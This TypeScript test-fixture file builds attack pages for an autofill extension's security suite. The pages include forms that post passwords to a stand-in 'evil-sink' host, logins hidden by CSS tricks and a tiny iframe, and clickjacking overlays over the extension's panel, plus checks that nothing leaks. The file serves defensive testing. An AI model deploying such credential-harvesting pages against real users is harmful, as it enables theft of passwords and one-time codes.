/**
 * Attack pages of issue 12 ("What was proved"), one per trick, and the
 * controls that must still fill. Shared by the Chromium suite
 * (tests/e2e/security-attacks.spec.ts) and the Firefox one
 * (tests/firefox/security-attacks.test.ts): both serve these files through the
 * sandbox (`fixturesDir`), at /fixtures/<name>.html on any host.
 *
 * Every page logs what its own scripts can see — each input/change value and
 * each submit — in `window.__log`; frames forward theirs to the top page.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** A tenant space of a hosting platform (lib/domain/hosting): only this exact host gets the task's data. */
export const ATTACK_TASK_HOST = 'alice-sec.angelfire.com';
export const SIBLING_TENANT = 'mallory-sec.angelfire.com';
export const UNRELATED_HOST = 'news-portal.test';
export const TRAP_LABEL = 'Task verified by the server: click Complete twice';

const LOG = `<script>
  window.__log = [];
  const note = (s) => { window.__log.push(s); if (parent !== window) parent.postMessage({ frameLog: s }, '*'); };
  addEventListener('message', (e) => { if (e.data && e.data.frameLog) window.__log.push('frame ' + e.data.frameLog); });
  for (const t of ['input', 'change']) document.addEventListener(t, (e) => { const el = e.target; if (el && 'value' in el) note(t + ':' + el.id + '=' + el.value); }, true);
  document.addEventListener('submit', (e) => { e.preventDefault(); note('submit:' + e.target.id); }, true);
</script>`;
const STYLE = '<style>body{font:15px system-ui;margin:24px} form{margin:0 0 24px;padding:12px;border:1px solid #ccc;width:340px;background:#fff} label{display:block;margin-top:6px} input{width:100%;padding:6px;box-sizing:border-box;font:inherit}</style>';
const doc = (title: string, body: string, head = '') => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title>${LOG}${STYLE}${head}</head><body>${body}</body></html>`;
const login = (id: string, attrs = '', extra = '', button = '<button type="submit">Sign in</button>') =>
  `<form id="${id}" ${attrs}><label for="${id}-u">Username</label><input id="${id}-u" name="username" autocomplete="username">` +
  `<label for="${id}-p">Password</label><input id="${id}-p" name="password" type="password" autocomplete="current-password">${extra}${button}</form>`;
const otp = (id: string, attrs = '') =>
  `<form id="${id}" ${attrs}><label for="${id}-c">Authenticator app code</label><input id="${id}-c" name="otp" autocomplete="one-time-code" inputmode="numeric" maxlength="6"><button type="submit">Verify</button></form>`;
/** The page's own normal login: it fills, which shows the extension ran on the page. */
const CONTROL = login('c');

export interface AttackCase {
  /** File name under /fixtures/. */
  page: string;
  /** Which item of issue 12's "What was proved" (or 'control'). */
  item: string;
  what: string;
  /** Where it is opened. */
  host: string;
  /** Fields that must end up holding no secret (CSS selectors in the top document). */
  attacked: string[];
  /** Fields that must be filled with the task's password (proves the extension ran there). */
  filled: string[];
  /** The page hides a field right after a fill: its scripts may have seen it, the field ends empty. */
  emptiedAfter?: boolean;
  /** Real clicks all over the panel, which must do nothing the worker did not see. */
  clickPanel?: boolean;
}

export const ATTACK_PAGES: Record<string, string> = {
  'form-action.html': doc('Sign in', `<h1>Sign in</h1>${login('a', 'action="https://collect.evil-sink.test/steal" method="post"')}${otp('o', 'action="//collect.evil-sink.test/otp"')}${CONTROL}`),
  'form-formaction.html': doc('Sign in', `<h1>Sign in</h1>${login('a', 'action="/session"', '<button type="submit" formaction="//collect.evil-sink.test/steal">Go</button>')}${CONTROL}`),
  'hidden-zero-height.html': doc('Sign in', `<div style="height:0;overflow:hidden">${login('a')}</div>${CONTROL}`),
  'hidden-clip-path.html': doc('Sign in', `<div style="clip-path:inset(49.9%)">${login('a')}</div>${CONTROL}`),
  'hidden-opacity.html': doc('Sign in', `<div style="opacity:0.1">${login('a')}</div>${CONTROL}`),
  'hidden-filter-opacity.html': doc('Sign in', `<div style="filter:opacity(0)">${login('a')}</div>${CONTROL}`),
  'hidden-mask.html': doc('Sign in', `<div style="-webkit-mask-image:linear-gradient(transparent,transparent);mask-image:linear-gradient(transparent,transparent)">${login('a')}</div>${CONTROL}`),
  'hidden-transparent.html': doc('Sign in', `<style>#a, #a *{color:transparent !important;background:transparent !important;border-color:transparent !important}</style>${login('a')}${CONTROL}`),
  'hidden-covered.html': doc('Sign in', `<div style="position:relative">${login('a')}<div style="position:absolute;inset:0;background:#fff">Welcome!</div></div>${CONTROL}`),
  'hidden-z-layer.html': doc(
    'Sign in',
    `<div style="position:relative;z-index:0"><div style="position:relative;z-index:1">${login('a')}</div><div style="position:absolute;inset:0;z-index:2;background:#f4f4f4">Loading…</div></div>${CONTROL}`,
  ),
  // Where the panel sits by default (bottom right). No Save button of its own: the panel steps aside
  // from a site's Save (DESIGN, cockpit), so an attacker leaves it out and submits by script instead.
  'hidden-under-panel.html': doc('Sign in', `${CONTROL}<div style="position:fixed;right:30px;bottom:40px;width:220px">${login('a', '', '', '')}</div>`),
  'shown-159ms.html': doc(
    'Sign in',
    `${CONTROL}<div id="flash"></div><script>
      // A login shown for 159 ms, hidden again right after a fill of it (issue 12, item 3).
      const box = document.getElementById('flash');
      box.innerHTML = ${JSON.stringify(login('a'))};
      document.addEventListener('input', (e) => { if (e.target.id === 'a-p' && e.target.value) setTimeout(() => { box.style.display = 'none'; }, 0); }, true);
      setTimeout(() => { box.style.display = 'none'; }, 159);
    </script>`,
  ),
  'panel-mask.html': doc('Sign in', CONTROL, '<style>html{-webkit-mask-image:radial-gradient(circle at 200px 120px, #000 160px, transparent 161px);mask-image:radial-gradient(circle at 200px 120px, #000 160px, transparent 161px)}</style>'),
  'panel-zoom.html': doc('Sign in', CONTROL, '<style>html{zoom:0.25}</style>'),
  // The overlay keeps itself last in <html> (after the panel's host, same top z-index), so it paints over the panel.
  'panel-overlay.html': doc(
    'Sign in',
    `${CONTROL}<div id="ov" style="position:fixed;inset:0;background:#fff;z-index:2147483647;pointer-events:none;font:40px system-ui;padding:40px">You won! Click anywhere twice.</div><script>
      const ov = document.getElementById('ov');
      const last = () => { if (document.documentElement.lastElementChild !== ov) document.documentElement.append(ov); };
      last();
      new MutationObserver(last).observe(document.documentElement, { childList: true });
    </script>`,
  ),
  'panel-page-text.html': doc(
    'Sign in',
    `<form id="c"><label for="c-u">${TRAP_LABEL}</label><input id="c-u" name="username" autocomplete="username"><label for="c-p">${TRAP_LABEL} (password)</label><input id="c-p" name="password" type="password" autocomplete="current-password"><button>Sign in</button></form>`,
  ),
  'sibling-tenant.html': doc('Sign in', `<div style="height:0;overflow:hidden">${login('a')}</div>${login('b')}${otp('o')}`),
  'hidden-frame.html': doc(
    'News',
    `<h1>Today's news</h1><p>Nothing to see here.</p><iframe id="f" style="width:2px;height:2px;border:0;opacity:0" src="about:blank"></iframe><script>document.getElementById('f').src = 'http://${ATTACK_TASK_HOST}:' + location.port + '/fixtures/frame-login.html';</script>`,
  ),
  'frame-login.html': doc('Sign in', login('a')),
  'controls.html': doc(
    'Sign in',
    `<div id="scroller" style="height:120px;overflow-y:auto;border:1px solid #999;width:380px"><div style="height:600px"></div>${login('s')}</div>` +
      `<dialog id="m" open style="position:fixed;top:20px;left:420px;margin:0;border:1px solid #999">${login('c')}</dialog>` +
      `<div style="margin-top:2600px">${login('b')}</div>`,
  ),
};

/**
 * What the page saw of the task's secrets outside the forms that may see them:
 * the page's own login (`c-`) and every form a control fills. Log lines are
 * `input:<id>=<value>`; ids are `<form>-<field>`.
 */
export function leaksOutsideOwnForms(log: string[], c: Pick<AttackCase, 'filled'>, secrets: string[]): string[] {
  const own = new Set(['c', ...c.filled.map((sel) => sel.replace(/^#/, '').split('-')[0])]);
  const secret = (l: string) => secrets.some((s) => l.includes(s)) || /^(input|change):\w+-\w+=\d{6}$/.test(l.replace(/^frame /, ''));
  return log.filter((l) => secret(l) && !own.has(/^(?:input|change):(\w+)-/.exec(l)?.[1] ?? ''));
}

const TASK_HOST_CASES: Omit<AttackCase, 'host'>[] = [
  { page: 'form-action.html', item: '3', what: 'a form whose action is another host', attacked: ['#a-p', '#o-c'], filled: ['#c-p'] },
  { page: 'form-formaction.html', item: '3', what: "a submit button's formaction to another host", attacked: ['#a-p'], filled: ['#c-p'] },
  { page: 'hidden-zero-height.html', item: '3', what: 'a parent height:0; overflow:hidden', attacked: ['#a-p'], filled: ['#c-p'] },
  { page: 'hidden-clip-path.html', item: '3', what: 'clip-path: inset(49.9%)', attacked: ['#a-p'], filled: ['#c-p'] },
  { page: 'hidden-opacity.html', item: '3', what: 'opacity: 0.1', attacked: ['#a-p'], filled: ['#c-p'] },
  { page: 'hidden-filter-opacity.html', item: '3', what: 'filter: opacity(0)', attacked: ['#a-p'], filled: ['#c-p'] },
  { page: 'hidden-mask.html', item: '3', what: 'a mask', attacked: ['#a-p'], filled: ['#c-p'] },
  { page: 'hidden-transparent.html', item: '3', what: 'transparent text and background', attacked: ['#a-p'], filled: ['#c-p'] },
  { page: 'hidden-covered.html', item: '3', what: 'covered by a div', attacked: ['#a-p'], filled: ['#c-p'] },
  { page: 'hidden-z-layer.html', item: '3', what: 'under a z-index layer', attacked: ['#a-p'], filled: ['#c-p'] },
  { page: 'hidden-under-panel.html', item: '3', what: "under the extension's own panel", attacked: ['#a-p'], filled: ['#c-p'] },
  { page: 'shown-159ms.html', item: '3', what: 'shown for 159 ms and hidden after the fill', attacked: ['#a-p'], filled: ['#c-p'], emptiedAfter: true },
  // Any mask counts as hiding (lib/autofill/detect/visibility.ts): the login in the hole is left alone too.
  { page: 'panel-mask.html', item: '4', what: 'panel clickjacking: a mask on <html> with a hole', attacked: ['#c-p'], filled: [], clickPanel: true },
  { page: 'panel-zoom.html', item: '4', what: 'panel clickjacking: zoom 0.25', attacked: [], filled: [], clickPanel: true },
  { page: 'panel-overlay.html', item: '4', what: 'panel clickjacking: an opaque overlay with pointer-events:none', attacked: [], filled: ['#c-p'], clickPanel: true },
  { page: 'panel-page-text.html', item: '5', what: 'page text in the panel', attacked: [], filled: ['#c-p'] },
  { page: 'controls.html', item: 'control', what: 'controls: a field scrolled away in a scrolling container, a modal, a field below the fold', attacked: [], filled: ['#s-p', '#c-p', '#b-p'] },
];

export const ATTACK_CASES: AttackCase[] = [
  { page: 'hidden-frame.html', item: '1', what: 'a 2×2 px http frame of the task host inside an unrelated http page', host: UNRELATED_HOST, attacked: [], filled: [] },
  { page: 'sibling-tenant.html', item: '2', what: 'a sibling tenant of a hosting platform (login and authenticator code)', host: SIBLING_TENANT, attacked: ['#a-p', '#b-p', '#o-c'], filled: [] },
  ...TASK_HOST_CASES.map((c) => ({ ...c, host: ATTACK_TASK_HOST })),
];

/** Writes the pages into `dir` (the sandbox's fixturesDir). */
export function writeAttackPages(dir: string): string {
  mkdirSync(dir, { recursive: true });
  for (const [name, html] of Object.entries(ATTACK_PAGES)) writeFileSync(join(dir, name), html);
  return dir;
}

/** Runs in the page: the attacked and filled fields' values, and the page's own log. */
export function readPage(attacked: string[], filled: string[]): { attacked: string[]; filled: string[]; log: string[] } {
  const val = (s: string) => (document.querySelector(s) as HTMLInputElement | null)?.value ?? '<missing>';
  return { attacked: attacked.map(val), filled: filled.map(val), log: ((window as unknown as { __log?: string[] }).__log ?? []).slice() };
}
